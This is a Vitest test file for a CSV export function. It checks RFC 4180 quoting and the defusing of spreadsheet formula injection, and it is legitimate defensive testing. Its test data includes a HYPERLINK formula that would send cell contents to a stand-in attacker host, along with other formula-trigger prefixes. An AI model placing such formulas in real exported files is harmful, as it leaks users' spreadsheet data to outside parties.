import { describe, expect, it } from 'vitest';
import { toCsv } from './toCsv.ts';

describe('CSV for a spreadsheet', () => {
  it('writes rows with CRLF, quoting only cells that need it (RFC 4180)', () => {
    expect(
      toCsv([
        ['id', 'reason'],
        [1, 'plain'],
        [2, 'with, a comma'],
        [3, 'a "quoted" word'],
        [4, 'two\nlines'],
        [5, null],
      ]),
    ).toBe('id,reason\r\n1,plain\r\n2,"with, a comma"\r\n3,"a ""quoted"" word"\r\n4,"two\nlines"\r\n5,\r\n');
  });

  it('neutralises what a spreadsheet would run as a formula', () => {
    const cells = [
      '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
    ];
    const [, row = ''] = toCsv([['reason'], ...cells.map((value) => [value])]).split('\r\n', 2);
    expect(row).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"');
    const written = toCsv(cells.map((value) => [value]));
    for (const value of cells) expect(written).toContain(`'${value}`.replaceAll('"', '""'));
  });

  it('leaves numbers, and text that only contains those characters later, as they are', () => {
    expect(toCsv([[-1, 'a=b', 'e-mail@x']])).toBe('-1,a=b,e-mail@x\r\n');
  });
});
